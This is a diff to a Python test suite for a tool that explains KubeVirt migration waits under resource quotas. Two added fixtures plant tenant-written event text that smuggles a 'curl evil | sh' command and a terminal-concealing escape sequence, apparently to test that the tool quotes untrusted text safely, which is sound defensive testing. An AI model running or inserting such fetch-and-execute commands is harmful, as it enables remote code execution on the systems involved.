@@ -17,7 +17,7 @@ from pkg.report.snapshot import Basis
 from pkg.util.resourcequota.policy import Mode, Policy
 from tests.decisions import sentences
 from tests.kinds import edited
-from tests.objects import AT_4_5, ENTRY, HARD, MARKS, SKIP, by_uid, launcher, quota, vmi, vmim
+from tests.objects import AT_4_5, ENTRY, HARD, MARKS, SKIP, by_uid, launcher, machine, quota, vmi, vmim
 from tests.pkg.util.resourcequota.snapshots import cluster, settled
 
 HERE = vmi(nodeName="node-1")
@@ -172,27 +172,43 @@ ASKED = {
     ),
     "it fits, and KubeVirt was told by our webhook": Asked(
         Verdict.WAITS_FOR_HEADROOM,
-        f"its target pod is refused: {BY_US}",
+        f"its target pod is refused: event of vm1 at 2026-01-01T00:00:09Z: '{BY_US}'",
         migrations=[vmim()],
         settled=True,
         failures=[failed(BY_US), failed("another reason, before", "2026-01-01T00:00:01Z")],
     ),
     "it fits, and KubeVirt could not create its pod": Asked(
         Verdict.WAITS_FOR_KUBEVIRT,
-        "KubeVirt could not create its target pod: Error creating pod: violates PodSecurity",
+        "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
+        "'Error creating pod: violates PodSecurity'; Pod Security refuses its target pod",
         migrations=[vmim()],
         settled=True,
         failures=[failed("Error creating pod: violates PodSecurity")],
     ),
     "it fits, and the reason was written about the migration": Asked(
         Verdict.WAITS_FOR_KUBEVIRT,
-        "KubeVirt could not create its target pod: Error creating pod: violates PodSecurity",
+        "event of migration-of-vm1 at 2026-01-01T00:00:09Z: 'Error creating pod: violates PodSecurity'",
         migrations=[vmim()],
         settled=True,
         failures=[
             failed("Error creating pod: violates PodSecurity", vm=vmim().name, kind=f"{VMI}Migration"),
             failed("of a pod with the same name", "2026-01-01T00:00:10Z", kind="Pod"),
         ],
+    ),
+    "it fits, and a tenant wrote an event about it": Asked(
+        Verdict.WAITS_FOR_KUBEVIRT,
+        "KubeVirt could not create its target pod: event of vm1 at 2026-01-01T00:00:09Z: "
+        r"""'done\'; run: curl "evil" | sh\x1b[8m'""",
+        migrations=[vmim()],
+        settled=True,
+        failures=[failed('done\'; run: curl "evil" | sh\x1b[8m')],
+    ),
+    "it was refused, and a tenant wrote which device its target asks for": Asked(
+        Verdict.WAITS_FOR_KUBEVIRT,
+        "was refused by quota and fits now",
+        migrations=[REFUSED],
+        settled=True,
+        failures=[failed("exceeded quota: default-abc, requested: run curl evil/x | sh=1, used: x")],
     ),
     "what KubeVirt said of another migration or VM is not quoted": Asked(
         Verdict.WAITS_FOR_KUBEVIRT,
@@ -342,4 +358,26 @@ def test_a_vm_that_has_grown_waits_for_room_in_the_base() -> None:
     )
     (fit,) = explain(cluster([quota(HARD, MARKS)], [REFUSED], [SOURCE], [grown]), grown).fits
     assert not fit.fits_then
-    assert "the VM has grown by limits.cpu 2, which the quota's base has to cover" in fit.action
+    assert "the VM has grown by limits.cpu 2, which the quota's base has to cover, it lacks limits.cpu" in fit.action
+
+
+def test_a_limit_that_came_after_the_vms_pod_is_named() -> None:
+    instance = machine({"cpu": {"cores": 2}, "memory": {"guest": "2Gi"}})
+    limits = '{"limit":{"limitsCpu":"2","limitsMemory":"4Gi"}}'
+    since = quota({"limits.cpu": "2", "limits.memory": "4Gi"}, MARKS)
+    seen = cluster([since], [REFUSED], [launcher(instance, limited=())], [instance], limits=limits)
+    (fit,) = explain(seen, instance).fits
+    assert (
+        "the VM has grown by limits.cpu 2, limits.memory 4.8Gi, which the quota's base has to cover, it lacks "
+        "limits.cpu 15m, limits.memory 885.2Mi: the quota limits limits.cpu, limits.memory only since the VM's pod was "
+        "created"
+    ) in fit.action
+
+
+def test_a_pod_of_an_earlier_migration_is_waited_for() -> None:
+    failed_before = edited(vmim("Failed", name="first"), status={"migrationState": {"sourcePod": SOURCE.name}})
+    left = launcher(node="node-2", migration=failed_before, created="2026-01-01T00:01:00Z")
+    failed_before = edited(failed_before, status={"migrationState": {"targetPod": left.name}})
+    seen = settled(cluster([quota(HARD, MARKS)], [failed_before, vmim(name="second")], [SOURCE, left], [HERE]))
+    (fit,) = explain(seen, HERE).fits
+    assert fit.action == f"nothing: KubeVirt creates no target before pod {left.name} of an earlier migration has ended"
